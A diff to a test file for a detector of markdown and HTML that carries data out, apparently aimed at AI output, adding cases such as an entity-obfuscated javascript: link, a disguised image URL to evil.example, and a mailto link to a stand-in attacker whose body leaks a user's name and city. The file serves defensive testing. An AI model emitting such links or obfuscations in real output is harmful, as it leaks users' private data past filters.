@@ -38,6 +38,9 @@ def look(text: str, **options: object) -> Verdict:
         ("[x](javascript:fetch('//evil.example'))", "script"),
         ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "script"),
         ("[x](JaVaScRiPt:alert(1))", "script"),
+        ('<a href="java&#115;cript:alert(1)">x</a>', "script"),
+        ("![x](https&#58;//evil.example/p.png)", "image"),
+        ("[write](mailto:eve@evil.example?body=the+user+is+called+Amy+and+lives+in+Rome)", "link"),
     ],
 )
 def test_what_carries_data_out_is_found(text: str, kind: str) -> None:
@@ -56,6 +59,7 @@ def test_what_carries_data_out_is_found(text: str, kind: str) -> None:
         "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
         "Our data: text and numbers. JavaScript: a language.",
         "Write to amy@mail.example.",
+        "[write](mailto:amy@mail.example) or [report](mailto:amy@mail.example?subject=Refund)",
         "`a[i](b)` and <b>bold</b>",
         "![local](/images/logo.png)",
         "",
